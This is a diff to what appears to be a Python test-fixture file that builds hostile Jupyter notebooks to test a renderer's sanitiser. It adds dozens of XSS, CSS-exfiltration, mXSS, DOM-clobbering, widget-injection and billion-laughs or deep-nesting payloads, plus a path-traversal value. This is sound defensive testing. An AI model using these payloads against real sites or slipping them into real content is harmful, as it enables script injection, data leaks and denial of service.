@@ -129,6 +129,35 @@ MARKUP = {
     "shadow": f'<div><template shadowrootmode=open><img src=x onerror="{RUN}"></template></div>',
     "portal": f"<portal src='{SENTINEL}/portal'></portal><fencedframe src='{SENTINEL}/ff'></fencedframe>",
     "speculation": f'<script type=speculationrules>{{"prefetch":[{{"urls":["{SENTINEL}/spec"]}}]}}</script>',
+    "styler-url": f"<style>#T_a_row0_col0 {{ background-image: url({SENTINEL}/sty.png); color: red }}</style><table id=T_a><td id=T_a_row0_col0>x",
+    "styler-import": f"<style>@import url({SENTINEL}/a.css); @import '{SENTINEL}/b.css' screen; #T_a {{ color: red }}</style><p id=T_a>x</p>",
+    "styler-escape": f"<style>#T_a {{ color: red; background: \\75\\72\\6c({SENTINEL}/esc.png); b\\61ckground: u\\000072l('{SENTINEL}/esc2.png') }}</style><p id=T_a>x</p>",
+    "styler-variable": f"<style>:root {{ --u: url({SENTINEL}/var.png) }} #T_a {{ background: var(--u); list-style: var(--u) }}</style><p id=T_a>x</p>",
+    "styler-image-set": f"<style>#T_a {{ background: image-set('{SENTINEL}/is.png' 1x); content: url({SENTINEL}/c.png); mask: url({SENTINEL}/m.svg#a); filter: url({SENTINEL}/f.svg#a) }}</style><p id=T_a>x</p>",
+    "styler-close": f"<style>#T_a[title='</style><script>{RUN}</script>'] {{ color: red }} #T_a::after {{ content: '</style><img src=x onerror={RUN}>' }}</style><p id=T_a>x</p>",
+    "styler-comment": f"<style><!-- #T_a {{ color: red }} --> /* </style><script>{RUN}</script> */</style><p id=T_a>x</p>",
+    "styler-nested": f"<style>#T_a {{ color: red; & p {{ background: url({SENTINEL}/n.png) }} @media all {{ p {{ background: url({SENTINEL}/n2.png) }} }} }}</style><p id=T_a>x</p>",
+    "styler-media": f"<style>@media all {{ p {{ background: url({SENTINEL}/m1.png) }} }} @supports (color: red) {{ p {{ background: url({SENTINEL}/m2.png) }} }} @layer a {{ p {{ background: url({SENTINEL}/m3.png) }} }}</style><p>x</p>",
+    "styler-behaviour": f"<style>p {{ behavior: url({SENTINEL}/b.htc); -moz-binding: url({SENTINEL}/x.xml#a); color: expression({RUN}) }}</style><p>x</p>",
+    "styler-visited": f"<style>a:visited {{ background: url({SENTINEL}/v.png); color: red }}</style><a href='{SENTINEL}/seen'>x</a>",
+    "styler-cover": "<style>div { position: fixed; inset: 0; z-index: 9999; background: red } ~ .nb-cell { display: none } body, html, :root { display: none }</style><div>sign in again</div>",
+    "styler-attribute": f"<style>input[value^='a'] {{ background: url({SENTINEL}/leak?a) }}</style><input type=checkbox value=abc>",
+    "styler-svg": f"<svg><style>@import url({SENTINEL}/ss.css); rect {{ fill: url({SENTINEL}/sf.svg#a) }}</style><rect width=9 height=9 /></svg>",
+    "svg-deep-foreign": f'<svg><g><foreignObject><math><mtext><img src=x onerror="{RUN}"></mtext></math><body onload="{RUN}"></foreignObject></g></svg>',
+    "svg-image-svg": f"<img src=\"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'%3E%3Cimage href='{SENTINEL}/si.png'/%3E%3C/svg%3E\">",
+    "svg-animate-href": f'<svg><a id=a><text y=9>x</text><set attributeName=href to="javascript:{RUN}" /><animate attributeName="xlink:href" values="javascript:{RUN}" begin=0s /></a><use href="data:image/svg+xml,<svg onload={RUN}>" /></svg>',
+    "svg-filter": f"<svg><filter id=f><feImage href='{SENTINEL}/fe.png'/></filter><rect width=9 height=9 filter='url(#f)' mask='url({SENTINEL}/mask.svg#m)'/></svg>",
+    "svg-title-mxss": f'<svg><title><style><img title="</style><img src=x onerror={RUN}>"></style></title><desc><img src=x onerror="{RUN}"></desc></svg>',
+    "math-annotation": f'<math><semantics><annotation-xml encoding="text/html"><img src=x onerror="{RUN}"><style><img title="</style><img src=x onerror={RUN}>"></style></annotation-xml></semantics></math>',
+    "math-malignmark": f'<math><mi><malignmark><style><!--</style><img src=x onerror="{RUN}">--></style></malignmark></mi></math>',
+    "math-nested": f'<math><mtext><svg><foreignObject><img src=x onerror="{RUN}"></foreignObject></svg></mtext><maction actiontype="statusline#{SENTINEL}/st" xlink:href="javascript:{RUN}">x</maction></math>',
+    "math-style": f"<math><mi style='background:url({SENTINEL}/ms.png)' mathbackground='url({SENTINEL}/mb.png)'>x</mi></math>",
+    "clobber-own": "<p id=cell-1 class='nb-cell nb-failed'>x</p><img id=nb-out-0 name=body><a id=failed name=cell-0>x</a><form id=getElementById><input name=documentElement></form>",
+    "label-steal": f'<label for=leave onclick="{RUN}">x</label><input type=checkbox id=leave autofocus onfocus="{RUN}"><input type=image src={SENTINEL}/ii.png>',
+    "progress-events": f'<progress value=1 max=2 onfocus="{RUN}" tabindex=0 autofocus></progress><meter value=x style="background:url({SENTINEL}/me.png)"></meter>',
+    "media-sources": f"<video><source src='{SENTINEL}/v1' onerror=\"{RUN}\"><track src='{SENTINEL}/t.vtt' default></video><audio src='javascript:{RUN}'></audio>",
+    "link-mark": f'<a href="#{SENTINEL}/x">x</a><a href="airflow-nbjobs-link#javascript:{RUN}">x</a><p title="airflow-nbjobs-theme">x</p>',
+    "insert-mark": f"\ue0f00\ue0f1<p title='\ue0f00\ue0f1\"><script>{RUN}</script>'>x</p>",
     "is-attribute": f'<p is=x-y popover onbeforetoggle="{RUN}">x</p>',
     "entities": f"&lt;script&gt;{RUN}&lt;/script&gt;",
     "utf7": f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
@@ -152,6 +181,19 @@ CELLS |= {
             f"$$\\href{{javascript:{RUN}}}{{x}}$$ $\\unicode{{<script>{RUN}</script>}}$ $<img src=x onerror={RUN}>$"
         )
     ],
+    "markdown-math-attributes": [
+        markdown(
+            f'![$\\text{{" onerror={RUN} x="}}$]({SENTINEL}/ma.png "$\\text{{x"><script>{RUN}</script>}}$") [$x$]({SENTINEL}/$y$)'
+        )
+    ],
+    "markdown-math-text": [
+        markdown(
+            f"$\\text{{</mtext></math><img src=x onerror={RUN}>}}$ $\\mbox{{<script>{RUN}</script>}}$ $\\style{{background:url({SENTINEL}/mst.png)}}{{x}}$"
+            f" $\\color{{url({SENTINEL}/mc.png)}}{{x}}$ $\\unicode{{x3c}}img src=x onerror={RUN}>$ $\\hspace{{-9999px}}x$ $&lt;script&gt;$"
+        )
+    ],
+    "markdown-math-deep": [markdown("$" + "{" * 1900 + "}" * 1900 + "$ " + "$x$ " * 5000)],
+    "markdown-math-unclosed": [markdown("$" + "\\begin{a}" * 300 + "$1 " * 3000)],
     "markdown-mermaid": [markdown(f"```mermaid\n</pre><script>{RUN}</script>\n```")],
     "markdown-attachment": [
         markdown(
@@ -167,6 +209,28 @@ CELLS |= {
         code(
             display(
                 {"application/vnd.jupyter.widget-view+json": {"model_id": f"<script>{RUN}</script>"}, "text/plain": "w"}
+            )
+        )
+    ],
+    "styles-many": [html("<style>" + "#T_a { color: red } " * 20_000 + "</style><p id=T_a>x</p>")],
+    "styles-deep": [
+        html("<style>" + "a { b: " + "(" * 4000 + "</style><p style='width: " + "calc(" * 4000 + "'>x</p>")
+    ],
+    "svg-deep": [svg("<svg xmlns='http://www.w3.org/2000/svg'>" + "<g>" * 20_000)],
+    "svg-laughs": [
+        svg(
+            "<!DOCTYPE svg [<!ENTITY a 'aaaaaaaaaa'>"
+            + "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9))
+            + "]><svg>&j;</svg>"
+        )
+    ],
+    "sizes-hostile": [
+        code(
+            display(
+                {"image/png": _PNG},
+                metadata={
+                    "image/png": {"width": f'1" onerror="{RUN}', "height": 1e308, "alt": f'"><script>{RUN}</script>'}
+                },
             )
         )
     ],
@@ -252,6 +316,38 @@ def notebook(cells: list[Any], **metadata: Any) -> str:
     )
 
 
+_WIDGETS = (
+    "HTML",
+    "HTMLMath",
+    "Label",
+    "VBox",
+    "Tab",
+    "FloatProgress",
+    "Image",
+    "Output",
+    "Dropdown",
+    "IntSlider",
+    "Text",
+)
+
+
+def widgets(state: dict[str, Any]) -> str:
+    """Return a notebook in which widgets of every kind were saved with one state."""
+    models = {
+        f"m{place}": {
+            "model_name": f"{name}Model",
+            "state": state | {"outputs": [html(state.get("value"))["outputs"][0]]},
+            "buffers": [{"path": ["value"], "encoding": "base64", "data": _PNG}],
+        }
+        for place, name in enumerate(_WIDGETS)
+    }
+    views = [
+        code(display({"application/vnd.jupyter.widget-view+json": {"model_id": name}, "text/plain": "w"}))
+        for name in models
+    ]
+    return notebook(views, widgets={"application/vnd.jupyter.widget-state+json": {"state": models}})
+
+
 NOTEBOOKS: dict[str, str] = {name: notebook(cells) for name, cells in CELLS.items()}
 NOTEBOOKS |= {
     "kernel-html": notebook(
@@ -259,6 +355,24 @@ NOTEBOOKS |= {
     ),
     "language-nonsense": notebook(
         [], language_info={"name": "../../etc/passwd", "pygments_lexer": f"<script>{RUN}</script>"}
+    ),
+    "widgets-html": widgets(
+        {"value": MARKUP["script"] + MARKUP["img-onerror"] + MARKUP["styler-close"] + MARKUP["styler-url"]}
+    ),
+    "widgets-text": widgets(
+        {
+            "value": f"<script>{RUN}</script>",
+            "description": f'"><img src=x onerror="{RUN}">',
+            "bar_style": f'x"><script>{RUN}</script>',
+            "format": f'png" onerror="{RUN}',
+            "titles": [f"<script>{RUN}</script>"],
+            "_options_labels": [f"<script>{RUN}</script>"],
+            "index": 0,
+        }
+    ),
+    "widgets-endless": widgets({"children": ["IPY_MODEL_m0", "IPY_MODEL_m1", "IPY_MODEL_m2", "IPY_MODEL_m3"]}),
+    "widgets-nonsense": widgets(
+        {"value": {"a": [1]}, "children": {"a": 1}, "titles": 3, "index": [[]], "min": "x", "max": float("inf")}
     ),
     "title-html": notebook([], title=f"</title><script>{RUN}</script>"),
 }
